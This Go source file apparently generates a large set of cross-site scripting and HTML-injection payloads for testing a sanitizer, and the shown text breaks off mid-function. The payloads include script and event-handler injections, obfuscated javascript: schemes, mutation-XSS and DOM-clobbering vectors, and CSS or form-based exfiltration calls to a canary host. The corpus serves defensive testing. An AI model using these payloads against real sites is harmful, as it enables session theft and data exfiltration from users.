package hostile

import (
	"encoding/base64"
	"fmt"
	"net/url"
	"slices"
	"strings"
)

// Payload is a text that calls Canary or sends a request to CanaryHost if it is interpreted as
// code or markup. All payloads come from the tables below; no third-party list is included.
type Payload struct {
	Kind string `json:"kind"`
	Text string `json:"text"`
}

// Every payload contains one of these.
const (
	Canary     = "__x()"
	CanaryHost = "canary.test"
)

// Scripts returns all payloads, the simplest attacks first.
func Scripts() (all []Payload) {
	for _, family := range []struct {
		kind  string
		texts []string
	}{
		{"plain", plainScripts},
		{"breakout", breakouts()},
		{"handler", handlers()},
		{"attribute", attributes()},
		{"scheme", schemed()},
		{"mutation", mutations()},
		{"svg", svgs},
		{"mathml", mathML},
		{"clobber", clobbering()},
		{"structure", structures},
		{"css", styles},
		{"encoded", encoded()},
		{"json", inJSON},
		{"template", templates},
		{"markdown", markdown},
		{"comment", comments},
		{"deep", deep()},
		{"mail", mailed},
		{"card", cards},
		{"cell", cells()},
		{"header", headers()},
	} {
		for _, text := range family.texts {
			all = append(all, Payload{Kind: family.kind, Text: strings.NewReplacer("§", Canary, "¤", CanaryHost).Replace(text)})
		}
	}
	return all
}

// In the tables § stands for Canary and ¤ for CanaryHost.
var plainScripts = []string{
	`<script>§</script>`, `<img src=x onerror=§>`, `<svg/onload=§>`, `<SCRIPT SRC=https://¤/x.js></SCRIPT>`, `<scr<script>ipt>§</scr</script>ipt>`,
	"<script\n>§</script\n>", `<script/x>§</script/x>`, `<script type=module>§</script>`, `<script type=text/javascript>§</script>`,
	`<script src=data:text/javascript,§></script>`, `<script src=//¤/s.js></script>`, `<script async defer src="https://¤/a.js"></script>`, `<<script>§//<</script>`,
	`<script>/*<!--*/§//--></script>`, `<script><!--<script></script>-->§</script>`, `<sCrIpT>§</sCrIpT>`, `<script language=vbscript>§</script>`,
	"<script\x00>§</script>", `<script xmlns="http://www.w3.org/1999/xhtml">§</script>`, `<script>window['__x']();§</script>`,
	`<script>setTimeout('§')</script>`, `<script>new Function('§')()</script>`, `<script>import('https://¤/m.js')</script>`,
	`<script>fetch('https://¤/f')</script>`, `<script>new Image().src='https://¤/i'</script>`, `<script>navigator.sendBeacon('https://¤/b')</script>`,
	`<script>location='https://¤/l'</script>`, `<script>top.§</script>`, `<script>parent.§</script>`, `<script>opener.§</script>`,
	`<iframe srcdoc="<script>parent.§</script>"></iframe>`, `<iframe src="javascript:parent.§"></iframe>`, `<embed src="javascript:§">`,
	`<object data="javascript:§"></object>`, `<body onload=§>`, `<html onload=§>`, `<details open ontoggle=§>`, `<video src=x onerror=§></video>`, `<audio src=x onerror=§></audio>`,
	`<video><source onerror=§></video>`, `<input autofocus onfocus=§>`, `<select autofocus onfocus=§>`, `<textarea autofocus onfocus=§>`,
	`<marquee onstart=§>`, `<image src=x onerror=§>`, `<xss onclick=§ tabindex=0 autofocus onfocus=§>`, `<button onclick=§>c</button>`,
	`<script>§`,
}

// everyHandler lists the event handler attributes of browsers.
var everyHandler = strings.Fields(`onabort onafterprint onafterscriptexecute onanimationcancel onanimationend onanimationiteration onanimationstart onauxclick
	onbeforecopy onbeforecut onbeforeinput onbeforematch onbeforepaste onbeforeprint onbeforescriptexecute onbeforetoggle onbeforeunload onbegin onblur onbounce oncancel
	oncanplay oncanplaythrough onchange onclick onclose oncommand oncontentvisibilityautostatechange oncontextlost oncontextmenu oncontextrestored oncopy oncuechange oncut
	ondblclick ondrag ondragend ondragenter ondragexit ondragleave ondragover ondragstart ondrop ondurationchange onemptied onend onended onerror onfinish onfocus onfocusin
	onfocusout onformdata onfullscreenchange ongesturestart ongotpointercapture onhashchange oninput oninvalid onkeydown onkeypress onkeyup onlanguagechange onload
	onloadeddata onloadedmetadata onloadstart onlostpointercapture onmessage onmousedown onmouseenter onmouseleave onmousemove onmouseout onmouseover onmouseup
	onmousewheel onoffline ononline onpagehide onpagereveal onpageshow onpageswap onpaste onpause onplay onplaying onpointercancel onpointerdown onpointerenter
	onpointerleave onpointermove onpointerout onpointerover onpointerrawupdate onpointerup onpopstate onprogress onratechange onreadystatechange onrepeat onreset
	onresize onscroll onscrollend onscrollsnapchange onscrollsnapchanging onsearch onsecuritypolicyviolation onseeked onseeking onselect onselectionchange
	onselectstart onshow onslotchange onstalled onstart onstorage onsubmit onsuspend ontimeupdate ontoggle ontouchcancel ontouchend ontouchmove ontouchstart
	ontransitioncancel ontransitionend ontransitionrun ontransitionstart onunhandledrejection onunload onvolumechange onwaiting onwebkitanimationend onwheel onzoom`)

// everyElement lists HTML elements; those allowed in articles come first.
var everyElement = []string{
	"p", "br", "h2", "h3", "ul", "ol", "li", "blockquote", "strong", "em", "u", "s", "code", "pre", "hr", "figure", "figcaption", "a href=#", "img src=x",
	"abbr", "address", "applet code=x", "area href=#", "article", "aside", "b", "base href=/", "basefont", "bdi", "bdo", "bgsound src=x", "big", "button autofocus", "canvas", "center",
	"cite", "command", "custom-element is=x", "data", "datalist", "dd", "del", "details open", "dialog open", "dir", "div", "dl", "dt", "fencedframe", "fieldset", "font", "footer",
	"form", "frame", "frameset", "header", "i", "iframe src=x", "image src=x", "input autofocus", "ins", "isindex type=image src=1", "kbd", "keygen autofocus", "label", "legend", "link rel=stylesheet href=x",
	"main", "map", "mark", "math", "menu", "meta", "meter", "nav", "object data=x", "optgroup", "option", "output", "param", "picture", "portal src=x", "progress", "q", "ruby",
	"samp", "search", "section", "select autofocus", "slot", "small", "source src=x", "span", "style", "sub", "summary", "sup", "svg", "table background=x", "tbody", "td", "template", "textarea autofocus",
	"th", "time", "track src=x", "tr", "tt", "var", "video src=x", "wbr", "x:x",
}

func handlers() (all []string) {
	for i, name := range everyHandler {
		element := everyElement[i%len(everyElement)]
		all = append(all, fmt.Sprintf(`<%s %s=§ tabindex=0>t`, element, name))
	}
	for i, element := range everyElement {
		name, _, _ := strings.Cut(element, " ")
		handler := everyHandler[(i*7+3)%len(everyHandler)]
		all = append(all, fmt.Sprintf(`<%s onerror="§" onload='§' onfocus=§ %s="§" autofocus tabindex=0 style="animation:x 1s">t</%s>`, element, strings.ToUpper(handler), name))
	}
	return all
}

// attributes returns payloads that end an attribute or tag in ways that filters based on
// regular expressions miss.
func attributes() []string {
	all := []string{
		"<img src=x onerror\n=\n§>", `<img/src=x/onerror=§>`, `<img src="x"onerror="§">`, `<img src=x: onerror=§//`, `<img """><script>§</script>">`,
		`<img src='x' onerror=§ '>`, "<img alt=\"`\" src=x onerror=`§`>", `<img alt='"><img src=x onerror=§>' src=y>`, `<img alt="&quot;><img src=x onerror=§>" src=y>`,
		`<img title="--><img src=x onerror=§>" src=y>`, `<img alt="</p><script>§</script>" src=y>`, `<img src="/media/x" srcset="x" onerror=§ alt="$1$0">`,
		`<img width="1 onerror=§" height="1;§" src=x>`, `<img loading="lazy onerror=§" src=x>`, `<p lang="en onmouseover=§">x</p>`, `<p lang="en" LANG="x" onmouseover=§>x</p>`,
		`<img src=x srcset="https://¤/s.png 1x" sizes=1>`, `<img srcset="https://¤/s2.png 1x, javascript:§ 2x">`, `<img srcset=",javascript:§,">`, `<img src="" srcset="//¤/t 1w">`,
		`<img src=x style="background:url(https://¤/c)">`, `<a href=x style=-moz-binding:url(https://¤/b)>x`, `<img =onerror=§ src=x>`, `<img src=x onerror&#61;§>`,
		"<img src=x on\x00error=§>", "<img\u00a0src=x onerror=§>", `<img src=x ONERROR=&#95;&#95;x();§>`, `<p/onclick=§/>x`, `<p onclick=§ `, `<a href="x" ping="https://¤/p">x</a>`,
		`<img src=x usemap=#m><map name=m><area shape=rect coords=0,0,999,999 href=javascript:§></map>`, `<img src=x lowsrc=javascript:§ dynsrc=javascript:§>`,
		`<p contenteditable onfocus=§ autofocus>x`, `<p popover id=p onbeforetoggle=§>x</p><button popovertarget=p>x</button>`, `<p slot=x is=x nonce=x itemscope itemref=x onclick=§>x</p>`,
		`<iframe srcdoc='&lt;script&gt;parent.§&lt;/script&gt;'></iframe>`, `<iframe srcdoc="&#60;img src=x onerror=parent.§&#62;"></iframe>`, `<iframe srcdoc=<svg/onload=parent.§>>`,
		`<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>parent.§</script>"></iframe>`, `<img src="https://¤/track.gif">`, `<img src=//¤/track2.gif width=1 height=1>`,
		`<img src="/media/../api/v1/session?§">`, `<a href="x" target="_blank" rel="opener" onclick=§>x</a>`, `<a href=x download=§ onclick=§>x</a>`,
		`<img src=x onerror="&#x5f;&#x5f;x();§">`, `<img src=x onerror=\u005f\u005fx();§>`, `<img src=x onerror=eval(name);§>`, `<img src=x onerror='§'/*'>`, `<img src=x onerror=§ alt='>'>`,
		`<img alt=">" onerror=§ src=x>`, `<a href="https://x.example/"onclick="§">c</a>`, `<a title='"' onmouseover=§ x='"'>c</a>`, `<img title="'" onerror=§ src='x"'>`,
		`<button popovertarget=x commandfor=x command=show-modal onclick=§>c</button>`, `<p onclick="&#106;&#115;:§">c</p>`, `<a x:y onclick=§>c</a>`, `<a -x onclick=§>c</a>`, `<a "x" onclick=§>c</a>`,
		`<input type=image src=x onerror=§>`, `<input type=hidden accesskey=x onclick=§>`, `<link rel=canonical accesskey=x onclick=§>`, `<meta itemprop=x onclick=§>`, `<a autofocus tabindex=0 onfocusin=§>c</a>`,
	}
	separators := []string{"\t", "\n", "\f", "\r", "/", "\v", "\u0085", "\u00a0", "\u1680", "\u180e", "\u2000", "\u2028", "\u2029", "\u200b", "\u3000", "\ufeff", "\x1f", "\x00", "//", "/ /", `"`, "'", "=", "`", `\`, ","}
	for i, separator := range separators {
		shape := []string{"<img src=x%sonerror=§>", "<svg x%sonload=§>", "<p id=x onclick%s=§>t</p>"}
		for _, at := range []int{0, 1 + i%2} {
			all = append(all, fmt.Sprintf(shape[at], separator))
		}
	}
	return all
}

// schemes are spellings of dangerous schemes. Browsers remove some characters before parsing a
// URL, while filters treat them as part of the scheme.
var schemes = []string{
	"javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "java\rscript:", "j\na\tv\ra\nscript:", "\tjavascript:", "\njavascript:", " javascript:", "javascript\t:", "javascript\n:", "javascript :",
	"&#106;avascript:", "&#x6A;avascript:", "&#0000106avascript:", "&#x006A;&#x0061;vascript:", "javascript&colon;", "javascript&#58;", "javascript&#x3a;", "javascript&#58", "java&Tab;script:", "java&NewLine;script:",
	"java&#9;script:", "java&#10;script:", "java&#x0D;script:", "java&#0;script:", "java&zwnj;script:", "java&shy;script:", "&#1;javascript:", "&#32;javascript:", "&nbsp;javascript:",
	"\x01javascript:", "\x1fjavascript:", "\u00a0javascript:", "\u00adjavascript:", "\u2028javascript:", "\ufeffjavascript:", "\u200bjavascript:", "\u202ejavascript:", "java\u200bscript:", "java\u00adscript:", "java\x00script:", "javascript\x00:",
	"%6Aavascript:", "%6a%61%76ascript:", "javascript%3A", "javascript%253A", "java%0ascript:", "java%09script:", "%00javascript:", "%20javascript:",
	"vbscript:", "livescript:", "mocha:", "jscript:", "wyciwyg:javascript:", "feed:javascript:", "view-source:javascript:", "jar:javascript:", "http:javascript:", "https:javascript:", "x:javascript:", "tel:javascript:", "mailto:javascript:", "sms:javascript:", "geo:javascript:", "upi:javascript:", "whatsapp:javascript:", "intent:javascript:",
	"data:text/html,<script>parent.", "data:text/html;charset=utf-8,<svg/onload=§>", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='§'/>", "data:text/xml,<x xmlns='http://www.w3.org/1999/xhtml'><script>", "data:,", "DATA:TEXT/HTML,<img src=x onerror=§>", "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>",
	"blob:https://¤/", "filesystem:https://¤/", "file:///", "about:srcdoc#", "about:blank#", "chrome://settings/", "ws://¤/", "ftp://¤/", "gopher://¤/",
	"//javascript:", "///javascript:", "javascript://%0a", "javascript://¤/%0a", "javascript://¤/?%0d%0a", "javascript:/*-->*/", `javascript:"/*'/*--></noscript></title></textarea></style></script>"/*/`, "javascript:void(0);", "javascript:%5f%5fx();", "javascript:'<img src=x onerror=§>';",
	`\javascript:`, `\\javascript:`, `/\¤/`, `\\¤\`, "///¤/", "https:¤/", "https:/¤/", "https:\\\\¤/", "https://a@¤/", "https://¤:99999/", "https://¤%00.example/", "https://¤\\@example.com/", "http://[::1]@¤/", "https://example.com@¤/?",
	"ｊavascript:", "javascrıpt:", "javaſcript:", "ĵavascript:", "јavascript:", "javascript：", "javascript﹕", "ᴊavascript:", "𝗃avascript:", "javascript։",
}

func schemed() (all []string) {
	for i, scheme := range schemes {
		all = append(all, scheme+Canary, `<a href="`+scheme+Canary+`">c</a>`, fmt.Sprintf([]string{`<img src="%s§">`, `<form action="%s§"><button>c</button></form>`, `<iframe src="%s§"></iframe>`, `<svg><a xlink:href="%s§"><text>c</text></a></svg>`, `<a href='%s§'>c`, `<area href="%s§">`, `<object data="%s§">`, `<button formaction="%s§">c</button>`}[i%8], scheme))
	}
	in64 := base64.StdEncoding.EncodeToString([]byte("<script>parent." + Canary + "</script>"))
	return append(all, "data:text/html;base64,"+in64+"#§", `<a href="data:text/html;base64,`+in64+`#§">c</a>`, `<iframe src="data:text/html;base64,`+in64+`#§"></iframe>`, `<object data="data:text/html;base64,`+in64+`#§">`,
		`<a href=javascript:§>c</a>`, `<a HREF=x href=javascript:§>c</a>`, `<a xlink:href=javascript:§>c</a>`, `<a href="jAvAsCrIpT&#0000058;§">c</a>`, `<a href="javascript:void(0)" onclick=§>c`,
		`<a href="http://x/&quot; onclick=&quot;§">c</a>`, "<a href=\"http://x/\u0022onclick=§\">c</a>", `<a href='http://x/" onmouseover="§'>c</a>`, `<a href="https://x/><script>§</script>">c</a>`, `<a href="mailto:a@b?subject=x&quot;onclick=&quot;§">c</a>`,
		`tel:+91"onclick="§`, `mailto:a@b.example?body=<script>§</script>`, `https://x.example/"onmouseover="§`, `https://x.example/'-§-'`, `https://x.example/?q=<script>§</script>`, `https://x.example/#<img src=x onerror=§>`, `https://x.example/</script><script>§</script>`,
		`/\/¤/?§`, `//¤/?§`, `https://wa.me/919825012345?text=<script>§</script>`, `https://youtu.be/"><script>§</script>`, `https://www.youtube.com/watch?v=x"onload="§`, `https://www.youtube.com/embed/x'><script>§</script>`)
}

// mutations returns payloads that are parsed differently after being serialised (mutation
// XSS): raw text that ends inside an attribute, for each raw-text element and each namespace.
func mutations() (all []string) {
	texts := []string{"style", "xmp", "iframe", "noembed", "noframes", "noscript", "textarea", "title", "script", "template", "select", "plaintext", "listing", "option"}
	around := []string{"%s", "<svg>%s", "<math>%s", "<math><mtext>%s", "<svg><desc>%s", "<svg><foreignObject>%s", "<math><annotation-xml encoding=text/html>%s", "<table><tr><td>%s", "<table>%s", "<form><math><mtext></form><form><mglyph>%s", "<select>%s", "<p><b><i><u>%s", "<svg></p>%s", "<ul><li>%s", "<math><mi><table><mglyph>%s"}
	for i, text := range texts {
		for j, outside := range around {
			inside := []string{`<%[1]s><a title="</%[1]s><img src=x onerror=§>">`, `<%[1]s><!--</%[1]s><img title="--&gt;&lt;img src=1 onerror=§&gt;">`, `<%[1]s><p id="</%[1]s><svg/onload=§>">`}[(i+j)%3]
			all = append(all, fmt.Sprintf(outside, fmt.Sprintf(inside, text)))
		}
	}
	return append(all,
		`<math><mtext><table><mglyph><style><math><img src onerror=§>`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=§>`, `<select><style></select><img src=x onerror=§></style>`, `<select><noembed></select><script>§</script>`,
		`<table><td><select><script>§</script>`, `<table><caption><svg><title><table><style><img src=x onerror=§>`, `<a><table><a href=javascript:§>c</a></table></a>`, `<b><p><b><i><a href=javascript:§>c`, "<pre>\n<img src=x onerror=§></pre>",
		`<pre><textarea></pre><img src=x onerror=§>`, `<code><style></code><img src=x onerror=§>`, `<figure><figcaption><svg><style></figcaption></figure><img src=x onerror=§>`, `<blockquote><plaintext></blockquote><script>§</script>`,
		`<svg><p><style><g title="</style><img src=x onerror=§>">`, `<svg><font color><p><style><a title="</style><img src onerror=§>">`, `<math><mtext><img><style><a title="</style><img src onerror=§>">`, `<u><svg><s><style><em title="</style><img src=x onerror=§>">`,
		`<template><img src=x onerror=§></template>`, `<template shadowrootmode=open><img src=x onerror=§></template>`, `<template><style></template><img src=x onerror=§></style>`, `<div><template shadowrootmode=closed><script>§</script></template></div>`, `<listing>&lt;img src=x onerror=§&gt;</listing>`,
		`<svg><annotation-xml><foreignObject><style><!--</style><p id="--><img src=x onerror=§>">`, `<math><annotation-xml encoding="application/xhtml+xml"><style><img src=x onerror=§></style>`, `<noscript><style></noscript><img src=x onerror=§></style>`, `<p><noscript><img title="</noscript><svg onload=§>"></noscript>`,
		`<math><mglyph><svg><mtext><style><path id="</style><img src=x onerror=§>">`, `<math><malignmark><style><a id="</style><img src=x onerror=§>">`, `<svg><mtext><style><b title="</style><img src=x onerror=§>">`, `<option><style></option></select><b><img src=x onerror=§></style></option>`,
		`<style><style/><img src=x onerror=§>`, `<frameset><noframes><p title="</noframes><frame onload=§>">`, `<dl><dt><dd><xmp></dl><img src=x onerror=§></xmp>`, `<ruby><rt><rtc><style></ruby><img src=x onerror=§></style>`, `<h2><h3><style></h2><img src=x onerror=§></style>`,
	)
}

var svgs = []string{
	`<svg><script>§</script></svg>`, `<svg><script href=data:,§ />`, `<svg><script xlink:href="https://¤/s.js"></script></svg>`, `<svg><script>&#95;&#95;x();§</script>`, `<svg><script><![CDATA[§]]></script></svg>`, `<svg xmlns="http://www.w3.org/2000/svg" onload="§"></svg>`,
	`<svg><animate onbegin=§ attributeName=x dur=1s>`, `<svg><animate onend=§ attributeName=x dur=1ms>`, `<svg><animateTransform onbegin=§ attributeName=transform>`, `<svg><animateMotion onbegin=§>`, `<svg><set onbegin=§ attributeName=x>`, `<svg><discard onbegin=§>`,
	`<svg><a><animate attributeName=href values=javascript:§ /><text y=20>c</text></a>`, `<svg><a><set attributeName=href to=javascript:§ /><text y=20>c</text></a>`, `<svg><a><animate attributeName=xlink:href begin=0 from=javascript:§ to=x /><text y=20>c</text></a>`, `<svg><set attributeName=onmouseover to=§>`,
	`<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror=§ /></svg>#x">`, `<svg><use href="https://¤/u.svg#x"/></svg>`, `<svg><use xlink:href="data:image/svg+xml;base64,PHN2Zy8+#§"/></svg>`, `<svg><image href="https://¤/i.png"/></svg>`, `<svg><image href=x onerror=§></svg>`,
	`<svg><feImage href="https://¤/fe.png"/></svg>`, `<svg><foreignObject><img src=x onerror=§></foreignObject></svg>`, `<svg><foreignObject><iframe srcdoc="<script>parent.§</script>"></iframe></foreignObject></svg>`, `<svg><desc><img src=x onerror=§></desc>`, `<svg><title><img src=x onerror=§></title>`, `<svg><metadata><script>§</script></metadata>`,
	`<svg><a href="javascript:§"><rect width=99 height=99 /></a></svg>`, `<svg><a xlink:href="javascript:§"><circle r=99 /></a></svg>`, `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">§</handler></svg>`, `<svg><style>@import url(https://¤/s.css);</style></svg>`, `<svg><style>*{fill:url(https://¤/f)}</style></svg>`,
	`<svg><path fill="url(https://¤/p)" d="M0 0"/></svg>`, `<svg><mask id=m><image href=x onerror=§ /></mask></svg>`, `<svg><pattern><image href="javascript:§"/></pattern></svg>`, `<svg><text><textPath href="javascript:§">c</textPath></text></svg>`, `<svg><g onclick=§><rect width=9 height=9 /></g></svg>`, `<svg><view onload=§>`, `<svg><switch><foreignObject><body onload=§></foreignObject></switch></svg>`,
	`<svg><![CDATA[><img src=x onerror=§>]]></svg>`, `<?xml version="1.0"?><?xml-stylesheet href="javascript:§"?><svg xmlns="http://www.w3.org/2000/svg"/>`, `<!DOCTYPE svg [<!ENTITY e "<script>§</script>">]><svg>&e;</svg>`, `<!DOCTYPE svg SYSTEM "https://¤/x.dtd"><svg/>`, `<svg><linearGradient onload=§>`, `<svg viewBox="0 0 1 1" onresize=§>`, `<svg><video><source onerror=§></svg>`,
	`</text><script>§</script><text>`, `"/><script>§</script><text x="`, `</tspan></text><image href=x onerror=§ />`, `</title></svg><img src=x onerror=§>`, `]]></style><script>§</script>`,
}

var mathML = []string{
	`<math href="javascript:§">c</math>`, `<math xlink:href="javascript:§">c</math>`, `<math><mi href="javascript:§">c</mi></math>`, `<math><mtext href="javascript:§">c</mtext></math>`, `<math><mrow xlink:href=javascript:§>c</mrow></math>`, `<math><maction actiontype=statusline xlink:href=javascript:§>c`,
	`<math><maction actiontype="statusline#https://¤/">c</maction></math>`, `<math><annotation-xml encoding="text/html"><img src=x onerror=§></annotation-xml></math>`, `<math><annotation-xml encoding="application/xhtml+xml"><svg onload=§></annotation-xml></math>`, `<math><mi><style><img src=x onerror=§></style></mi></math>`, `<math><ms><script>§</script></ms></math>`,
	`<math><semantics><annotation encoding="text/html"><script>§</script></annotation></semantics></math>`, `<math><mo onclick=§>c</mo></math>`, `<math><mn onmouseover=§>1</mn></math>`, `<math><mtext></math><img src=x onerror=§>`, `<math><mtext><svg><foreignObject><math><mtext><img src=x onerror=§>`, `<math><mglyph src="https://¤/g.png">`, `<math><mpadded style="background:url(https://¤/m)">c</mpadded></math>`,
	`<math><mstyle style="position:fixed;inset:0" onclick=§>c</mstyle></math>`, `<math><script>§</script></math>`, `<math><semantics><mi>x</mi><annotation-xml encoding="SVG1.1"><svg><script>§</script></svg></annotation-xml></semantics></math>`, `<math><mphantom><img src=x onerror=§></mphantom></math>`, `<math></p><script>§</script>`, `<math><br><script>§</script>`,
}

// clobbering returns elements that have the names of properties that scripts use (DOM
// clobbering).
func clobbering() (all []string) {
	names := strings.Fields(`root boot prose __early __x body head documentElement cookie getElementById querySelector forms location defaultView currentScript dataset
		localStorage sessionStorage constructor __proto__ prototype toString valueOf hasOwnProperty children childNodes firstChild attributes innerHTML textContent
		parentNode ownerDocument implementation createElement addEventListener fetch history navigator scripts images links title domain referrer write self top parent`)
	for i, name := range names {
		all = append(all, fmt.Sprintf(`<a id=%[1]s name=%[1]s href="javascript:§">x</a>`, name), fmt.Sprintf([]string{
			`<form id=%[1]s action="javascript:§"><input name=%[1]s><input name=action></form>`, `<img name=%[1]s id=%[1]s src=x onerror=§>`, `<iframe name=%[1]s srcdoc="<a id=x href=javascript:§>"></iframe>`, `<object name=%[1]s data="javascript:§"></object><embed name=%[1]s>`,
		}[i%4], name))
	}
	return append(all, `{"__proto__":{"innerHTML":"<img src=x onerror=§>"}}`, `__proto__[srcdoc]=<script>§</script>`, `constructor[prototype][src]=//¤/`, `<a id=config><a id=config name=url href="https://¤/?§">`)
}

var structures = []string{
	`<base href="https://¤/">`, `<base target=_top href="javascript:§//">`, `<meta http-equiv=refresh content="0;url=https://¤/">`, `<meta http-equiv=refresh content="0;url=javascript:§">`, `<meta http-equiv=refresh content="0;url=data:text/html,<script>§</script>">`, `<meta http-equiv=set-cookie content="a=§">`, `<meta http-equiv="Content-Security-Policy" content="script-src * §">`, `<meta charset=utf-7>+ADw-script+AD4-§`,
	`<meta name=referrer content=unsafe-url><img src=https://¤/r>`, `<link rel=stylesheet href=https://¤/x.css>`, `<link rel=import href=https://¤/>`, `<link rel=modulepreload href=https://¤/m.js>`, `<link rel=preload as=script href=https://¤/p.js>`, `<link rel=prefetch href=https://¤/pf>`, `<link rel=dns-prefetch href=//¤>`, `<link rel=preconnect href=https://¤>`, `<link rel=icon href=https://¤/i.ico>`, `<link rel=manifest href=https://¤/m.json>`, `<link rel=prerender href=https://¤/pr>`,
	`<form action=https://¤/><input name=password><button>c</button></form>`, `<form id=f action=javascript:§></form><button form=f>c</button>`, `<input type=image formaction=javascript:§ src=x>`, `<input type=submit formaction=https://¤/ value=§>`, `<isindex action=javascript:§ type=image>`, `<button type=submit formaction="https://¤/b" form=x>§</button>`, `<li><form><button formaction=javascript:§>c</button></form>`,
	`<iframe src=https://¤/></iframe>`, `<iframe src="/admin/dashboard" onload="§"></iframe>`, `<frameset onload=§><frame src=javascript:§></frameset>`, `<frame src="javascript:parent.§">`, `<object data="data:text/html,<script>§</script>"></object>`, `<object type=text/html data=https://¤/o></object>`, `<object data=x><param name=url value=https://¤/p></object>`, `<embed src=data:text/html,<script>§</script>>`, `<embed src=https://¤/e.swf>`, `<applet code=x archive=https://¤/a.jar></applet>`,
	`<portal src=https://¤/></portal>`, `<fencedframe src=https://¤/>`, `<video poster=javascript:§ src=https://¤/v autoplay>`, `<video poster=https://¤/poster.png></video>`, `<audio src=https://¤/a autoplay>`, `<track kind=subtitles src=https://¤/t.vtt default>`, `<video><track src="https://¤/t2.vtt" default onload=§></video>`, `<picture><source srcset=https://¤/pic><img src=x></picture>`, `<body background=https://¤/bg>`, `<table background=https://¤/tb>`, `<td background=javascript:§>`,
	`<html manifest=https://¤/m><head><script>§</script>`, `<head><base href=//¤/></head>`, `<script type="importmap">{"imports":{"x":"https://¤/x.js"}}</script>`, `<script type=speculationrules>{"prefetch":[{"urls":["https://¤/spec"]}]}</script>`, `<dialog open><form method=dialog action=javascript:§><button>c</button></form></dialog>`, `<a href="/" target="x" onclick="§">c</a><iframe name=x></iframe>`, `<div style="position:fixed;inset:0;z-index:9999"><a href="https://¤/">§</a></div>`, `<noscript><img src=https://¤/noscript></noscript>`, `<bgsound src=https://¤/bg.wav>`, `<layer src=https://¤/layer></layer>`, `<xml src=https://¤/x.xml id=x>`, `<img src=x><!-- §--><a href="https://¤/" ping=https://¤/ping>c</a>`, `<template><script src=https://¤/t.js></script></template>`,
}

var styles = []string{
	`<style>@import url(https://¤/i.css);*{background:url(https://¤/b)}</style>`, `<style>@import 'https://¤/i2.css';</style>`, `<style>@font-face{font-family:x;src:url(https://¤/f)}*{font-family:x}</style>`, `<style>input[value^=a]{background:url(https://¤/a)}</style>`, `<style>body{-moz-binding:url(https://¤/x.xml#x)}</style>`, `<style>*{behavior:url(https://¤/x.htc)}</style>`, `<style>*{width:expression(§)}</style>`, `<style>@keyframes x{}p{animation:x 1s}</style><p onanimationstart=§>x</p>`, `<style>li{list-style-image:url("javascript:§")}</style><ul><li>x</ul>`, `<style>*{cursor:url(https://¤/c),auto}</style>`,
	`<style>:root{--x:url(https://¤/v);background:var(--x)}</style>`, `<style>@namespace url(https://¤/n);</style>`, `<style>@media all{*{content:url(https://¤/m)}}</style>`, `<style>*{background-image:image-set("https://¤/is" 1x)}</style>`, `<style>*{filter:url(https://¤/filter#x)}</style>`, `<style>*{mask:url(https://¤/mask)}</style>`, `<style></style><script>§</script>`, `<style><!--</style><script>§</script>-->`, `<p style="position:fixed;inset:0;z-index:99999;background:url(https://¤/p)">overlay`, `<p style="background:url(javascript:§)">x`,
	`<p style="width:expression(§)">x`, `<p style="b\61ckground:url(https://¤/esc)">x`, `<p style="background:u\72l(https://¤/esc2)">x`, `<p style="x:url(https://¤/x" onclick=§>x`, `<p style='background:url("https://¤/q")'>x`, `<div style="content:'</style><script>§</script>'">x`, `<p style="--x:</style><script>§</script>">x`, `red;background:url(https://¤/colour)`, `#fff}*{background:url(https://¤/brace)}`, `#000;}</style><script>§</script>`, `url(javascript:§)`, `url("https://¤/u")`, `image-set("https://¤/set" 1x)`, `expression(§)`, `\27;background:url(https://¤/quote);`, `*/}*{background:url(https://¤/c)}/*`, `;@import "https://¤/semi";`, `{}@import url(//¤/at);`,
}

// encoded returns simple payloads in every encoding that some parser may decode.
func encoded() (all []string) {
	each := func(form string) func(string) string {
		return func(text string) string {
			var out strings.Builder
			for _, r := range text {
				fmt.Fprintf(&out, form, r)
			}
			return out.String()
		}
	}
	reader := func(pairs ...string) func(string) string { return strings.NewReplacer(pairs...).Replace }
	once := url.QueryEscape
	ways := []func(string) string{
		each("&#%d;"), each("&#%d"), each("&#x%x;"), each("&#x%X"), each("&#%07d;"), each("&#x%06x;"), each(`\x%02x`), each(`\u%04x`), each(`\u{%x}`), each(`\%o`), each("%%u%04x"), each("%%%02X"),
		once, func(text string) string { return once(once(text)) }, func(text string) string { return once(once(once(text))) }, each("\\%06x "), each("=%02X"),
		reader("<", "&lt;", ">", "&gt;"), reader("<", "&LT", ">", "&GT"), reader("<", "&amp;lt;", ">", "&amp;gt;"), reader("<", "&amp;amp;lt;", ">", "&amp;amp;gt;"), reader("<", "&#60", ">", "&#62"), reader("<", `\u003c`, ">", `\u003e`), reader("<", `\x3c`, ">", `\x3e`), reader("<", `\74`, ">", `\76`), reader("<", "%3C", ">", "%3E"), reader("<", "%253C", ">", "%253E"), reader("<", "%uff1c", ">", "%uff1e"), reader("<", "%C0%BC", ">", "%C0%BE"),
		reader("<", "＜", ">", "＞"), reader("<", "﹤", ">", "﹥"), reader("<", "‹", ">", "›"), reader("<", "〈", ">", "〉"), reader("<", "+ADw-", ">", "+AD4-"), reader("<", "<\x00", ">", "\x00>"), reader("<", "\ufeff<", ">", ">\ufeff"), reader("<", "\u202e<", ">", ">\u202c"), reader("s", "ſ"), reader("i", "ı"), reader("<", "¼", ">", "¾"), reader("<", "\u226e\u0338", ">", "\u226f\u0338"), reader("<", "\x1b(J<", ">", ">\x1b(B"), reader("<", "~{<", ">", ">~}"), reader("<", "&lt", ">", "&gt"),
	}
	for _, way := range ways {
		for _, text := range []string{"<script>__x()</script>", "<img src=x onerror=__x()>", `"><svg/onload=__x()>`} {
			if wrong := way(text); wrong != text && !slices.Contains(all, wrong+" §") {
				all = append(all, wrong+" §")
			}
		}
	}
	return all
}

// breakouts returns payloads that end the surrounding construct, for every place in which a
// page inserts text.
func breakouts() (all []string) {
	ends := []string{
